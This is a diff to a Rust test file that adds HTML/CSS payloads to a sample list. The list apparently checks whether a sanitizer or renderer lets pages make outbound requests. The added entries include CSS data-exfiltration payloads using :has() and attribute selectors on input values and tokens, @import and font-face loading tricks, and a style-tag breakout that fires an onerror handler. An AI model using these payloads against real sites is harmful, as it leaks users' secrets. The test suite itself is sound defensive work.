@@ -126,6 +126,48 @@ pub(crate) const SAMPLES: &[Sample] = &[
     effective("style-border-image", "<p style=\"border:9px solid;border-image:url({url}) 9\">x</p>"),
     effective("style-variable", "<style>:root{--x:url({url})}p{background:var(--x)}</style><p>x</p>"),
     effective("style-cursor", "<p style=\"cursor:url({url}),auto\">x</p>"),
+    // Style sheets.
+    effective("sheet-import-layer", "<style>@import '{url}' layer(x);</style>"),
+    effective("sheet-import-media", "<style>@import '{url}' screen;</style>"),
+    effective("sheet-import-second", "<style>p{margin:0}</style><style>@import '{url}';</style>"),
+    effective("sheet-with-media", "<style media=screen>p{background:url({url})}</style><p>x</p>"),
+    effective("sheet-media", "<style>@media screen{p{background:url({url})}}</style><p>x</p>"),
+    effective("sheet-supports", "<style>@supports(color:red){p{background:url({url})}}</style><p>x</p>"),
+    effective("sheet-layer", "<style>@layer x{p{background:url({url})}}</style><p>x</p>"),
+    effective("sheet-nested", "<style>body{& p{background:url({url})}}</style><p>x</p>"),
+    effective(
+        "sheet-keyframes",
+        "<style>@keyframes x{to{background:url({url})}}p{animation:x 1s}</style><p>x</p>",
+    ),
+    effective("sheet-escaped", "<style>p{background:\\75 rl({url})}</style><p>x</p>"),
+    effective("sheet-image-set", "<style>p{background:image-set('{url}' 1x)}</style><p>x</p>"),
+    effective("sheet-has", "<style>body:has(p){background:url({url})}</style><p>x</p>"),
+    effective(
+        "sheet-has-exfiltration",
+        "<style>body:has(input[value^=s]){--x:url({url});background:var(--x)}</style><input value=secret>",
+    ),
+    effective(
+        "sheet-attribute-exfiltration",
+        "<style>a[href*=token]{background:url({url})}</style><a href='https://x.localhost/?token=1'>x</a>",
+    ),
+    effective(
+        "sheet-position",
+        "<style>p{position:fixed;inset:-999px;z-index:2147483647;background:url({url})}</style><p>x</p>",
+    ),
+    effective("sheet-content", "<style>p::after{content:url({url})}</style><p>x</p>"),
+    effective(
+        "sheet-font-range",
+        "<style>@font-face{font-family:x;src:url({url});unicode-range:U+78}p{font-family:x}</style><p>x</p>",
+    ),
+    ineffective(
+        "sheet-end",
+        "<style>p::before{content:'\\3c/style>\\3cimg src={url} onerror=\"{run}\">'}</style><p>x</p>",
+    ),
+    ineffective("sheet-page", "<style>@page{background:url({url})}</style><p>x</p>"),
+    ineffective(
+        "sheet-property",
+        "<style>@property --x{syntax:'<url>';inherits:true;initial-value:url({url})}</style><p>x</p>",
+    ),
     // Links in the head.
     effective("meta-refresh", "<meta http-equiv=refresh content='0;url={url}'>"),
     effective("base", "<base href='{url}/'><img src=under-base>"),
@@ -198,5 +240,8 @@ pub(crate) const DNS_LOOKUPS: &[&str] = &[
     "<img src='http://{name}/'>",
     "<video poster='http://{name}/'></video>",
     "<p style='background:url(http://{name}/)'>x</p>",
+    "<style>@import '//{name}/';</style><p>x</p>",
+    "<style>p{background:url(//{name}/)}</style><p>x</p>",
+    "<style>@font-face{font-family:x;src:url(//{name}/)}p{font-family:x}</style><p>x</p>",
     "<meta http-equiv=x-dns-prefetch-control content=on><a href='http://{name}/'>a link</a>",
 ];
